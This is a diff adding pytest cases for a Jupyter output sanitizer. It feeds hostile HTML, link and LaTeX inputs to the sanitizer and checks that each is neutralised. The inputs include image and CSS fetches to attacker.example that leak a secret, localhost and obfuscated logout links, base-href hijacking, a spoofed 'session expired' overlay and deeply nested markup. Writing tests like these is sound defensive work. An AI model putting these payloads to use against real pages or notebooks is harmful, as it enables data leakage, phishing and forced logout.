@@ -8,6 +8,7 @@ import re
 import pytest
 
 from microagent_jupyter.output_policy import (
+    CONTAINER,
     NOTE_PREFIX,
     OutputPolicy,
     UnsafeSVG,
@@ -54,7 +55,7 @@ def test_dataframe_html_keeps_its_table() -> None:
             '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr>'
             '</thead><tbody><tr><th>0</th><td>1</td></tr></tbody></table></div>')
     clean = sanitize_html(html)
-    assert '<table border="1" class="dataframe">' in clean
+    assert '<table border="1">' in clean and "class=" not in clean  # Lab's CSS classes are never the guest's
     assert "<td>1</td>" in clean and 'style="text-align:right"' in clean.replace(" ", "")
     assert "<style" not in clean
 
@@ -161,7 +162,7 @@ def test_comm_and_unknown_iopub_messages_dropped() -> None:
     assert err == {"ename": "ValueError", "evalue": "x", "traceback": ["a", "1"]}
     upd = policy.filter_content("update_display_data", {"data": {"text/html": "<script>x</script>ok"},
                                                         "metadata": {}, "transient": {"display_id": "d1", "o": 1}})
-    assert upd == {"data": {"text/html": "ok"}, "metadata": {}, "transient": {"display_id": "d1"}}
+    assert upd == {"data": {"text/html": f"{CONTAINER}ok</div>"}, "metadata": {}, "transient": {"display_id": "d1"}}
 
 
 def test_values_refuse_what_has_no_safe_format() -> None:
@@ -173,3 +174,107 @@ def test_values_refuse_what_has_no_safe_format() -> None:
         decode({"name": "x", "format": "json", "data": "__import__('os')"})
     with pytest.raises(ValueRefused, match="socket"):
         decode({"name": "s", "format": "refused", "type": "socket.socket"})
+
+
+# ---- guarded edges: nothing fetched on render, no same-origin URLs, no Lab classes, depth-bounded ---------------
+FETCHING_HTML = [
+    '<img src="https://attacker.example/pixel.gif?leak=secret">',
+    '<img src="http://127.0.0.1:9/pixel.gif">',
+    '<img srcset="https://attacker.example/a.png 1x" src="data:image/png;base64,iVBORw0KGgo=">',
+    '<picture><source srcset="https://attacker.example/p.png"></picture>',
+    '<video poster="https://attacker.example/v.png" src="https://attacker.example/v.mp4"></video>',
+    '<audio src="https://attacker.example/a.mp3"></audio><input type="image" src="https://attacker.example/i">',
+    '<table background="https://attacker.example/bg.png"><tr><td background="https://attacker.example/t">x</td>'
+    '</tr></table>',
+    '<div style="background-color: red; background-image: url(https://attacker.example/bg)">x</div>',
+    '<p style="color: red; list-style-type: image-set(\'https://attacker.example/i.png\' 1x)">x</p>',
+    '<link rel="stylesheet" href="https://attacker.example/s.css"><meta http-equiv="refresh" content="0;url=/logout">',
+    '<base href="https://attacker.example/"><img src="x.png">',
+]
+
+
+@pytest.mark.parametrize("source", FETCHING_HTML)
+def test_html_never_fetches_on_render(source: str) -> None:
+    clean = sanitize_html(source)
+    for tag in re.findall(r"<[^>]+>", clean):  # no attribute of any kept tag names a remote or relative resource
+        assert not re.search(r'(src|srcset|poster|background|href|data)="(?!data:image/)', tag), tag
+    assert "url(" not in clean and "image-set" not in clean
+
+
+def test_remote_image_becomes_visible_text() -> None:
+    clean = sanitize_html('<img src="https://attacker.example/p.gif?a=1&b=<2>">')
+    assert "<img" not in clean
+    assert "remote image not loaded: https://attacker.example/p.gif?a=1&amp;b=&lt;2&gt;" in clean
+    md = OutputPolicy().filter_bundle({"text/markdown": "see ![pixel](https://attacker.example/m.png)"})[0]
+    assert "<img" not in md["text/html"] and "https://attacker.example/m.png" in md["text/html"]
+
+
+@pytest.mark.parametrize("href", ["http:/logout", "http:logout", "https:\\\\attacker.example/x", "//attacker.example/",
+                                  "/api/contents", "logout", "http://127.0.0.1:8888/logout", "http://localhost/x",
+                                  "http://lab.localhost/", "http://[::1]/x", "http://2130706433/", "http://0.0.0.0/",
+                                  "https://attacker.example\\@good.example/", "ht\ttp://attacker.example/",
+                                  "http://attacker.example/\x01x"])
+def test_links_only_absolute_web_urls_off_this_machine(href: str) -> None:
+    clean = sanitize_html(f'<a href="{href}">x</a>')
+    assert "href=" not in clean, clean
+
+
+def test_links_show_where_they_go_and_never_the_server_origin() -> None:
+    clean = sanitize_html('<a href="https://docs.example/page">read the docs</a>')
+    assert 'title="https://docs.example/page"' in clean and "(docs.example)" in clean
+    policy = OutputPolicy(server_origins=frozenset({"http://lab.example:8888"}))
+    out = policy.filter_bundle({"text/html": '<a href="http://lab.example:8888/logout">sign in again</a>'})[0]
+    assert "href" not in out["text/html"] and "sign in again" in out["text/html"]
+
+
+def test_guest_markup_cannot_take_lab_classes_or_leave_its_area() -> None:
+    toast = ('<div class="Toastify__toast-container Toastify__toast-container--top-right" '
+             'style="position: fixed; top: 0; margin-top: -400px; z-index: 9999">session expired, sign in again</div>')
+    clean = sanitize_html(toast)
+    assert clean.startswith(CONTAINER) and clean.endswith("</div>")
+    inner = clean[len(CONTAINER):]
+    assert "class=" not in inner and "position" not in inner and "z-index" not in inner
+    assert "contain: paint" in CONTAINER and "overflow: auto" in CONTAINER  # negative margins are clipped
+
+
+def test_deep_markup_is_dropped_with_a_note_never_raised() -> None:
+    policy = OutputPolicy()
+    svg = "<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 5000 + "</g>" * 5000 + "</svg>"
+    deep_html = "<div>" * 100000 + "x" + "</div>" * 100000
+    data, _ = policy.filter_bundle({"image/svg+xml": svg, "text/html": deep_html, "text/plain": "p"})
+    assert "image/svg+xml" not in data and "text/html" not in data
+    assert "nested deeper" in data["text/plain"]
+    assert policy.filter_content("display_data", {"data": {"image/svg+xml": svg}, "metadata": {}}) is not None
+
+
+def test_policy_never_raises_on_hostile_structures() -> None:
+    import random
+
+    rng = random.Random(16)
+    atoms: list = [None, 1, 1.5, True, "x", "<b>", "\ud800", [], {}, "a" * 70000]
+    policy = OutputPolicy()
+    for _ in range(400):
+        value = rng.choice(atoms)
+        for _ in range(rng.randrange(0, 30)):
+            value = rng.choice([[value], {"k": value}, {rng.choice(["text/html", "image/png", "data"]): value}])
+        for msg_type in ("display_data", "execute_result", "stream", "error", "execute_input", "status"):
+            policy.filter_content(msg_type, {"data": value, "text": value, "traceback": value, "metadata": value})
+        policy.filter_bundle(value, value)
+
+
+def test_cell_text_is_capped_with_one_note() -> None:
+    policy = OutputPolicy(max_cell_bytes=3 * 1024 * 1024)
+    chunk = "y" * (1024 * 1024)
+    texts = [policy.filter_content("stream", {"name": "stdout", "text": chunk}) for _ in range(10)]
+    kept = [t for t in texts if t is not None]
+    assert sum(len(t["text"]) for t in kept) < 3 * 1024 * 1024 + 1000
+    assert sum("output truncated" in t["text"] for t in kept) == 1
+    policy.new_cell()
+    assert policy.filter_content("stream", {"name": "stdout", "text": "next cell"})["text"] == "next cell"
+
+
+def test_latex_cannot_fetch_or_style() -> None:
+    policy = OutputPolicy()
+    for tex in (r"$\bbox[background-image: url(https://attacker.example/x)]{1}$", r"$\href{/logout}{x}$",
+                r"$\style{position:fixed}{x}$", r"$\mmlToken{mi}[mathbackground=url(x)]{x}$"):
+        assert "text/latex" not in policy.filter_bundle({"text/latex": tex})[0]
